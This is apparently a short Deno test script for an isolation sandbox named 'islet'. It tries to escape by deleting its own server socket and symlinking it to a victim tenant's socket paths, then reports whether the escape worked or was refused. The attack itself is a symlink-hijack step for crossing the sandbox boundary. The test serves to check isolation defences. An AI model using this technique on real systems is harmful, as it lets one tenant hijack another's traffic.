// Replaces its own server's socket by a link to the victim's, so that its visitors would see the victim's answers.
// @again
const at = JSON.parse(Deno.env.get("ATTACK")!);
const got: string[] = [];
const refused: string[] = [];
async function attempt(what: string, act: () => unknown) {
  try {
    (await act() ? got : refused).push(what);
  } catch (error) {
    refused.push(`${what}: ${(error as any).code ?? (error as Error).name}`);
  }
}

Deno.serve(async () => {
  for (const path of at.serveSockets) {
    await attempt("link", () => {
      Deno.removeSync("/run/islet/a.sock");
      Deno.symlinkSync(path, "/run/islet/a.sock");
      return false; // told by the next answers
    });
  }
  return Response.json({
    attack: at.name,
    escaped: got.length > 0,
    detail: got.length > 0 ? `got ${got.join(", ")}` : `refused: ${refused.join(", ")}`,
  });
});
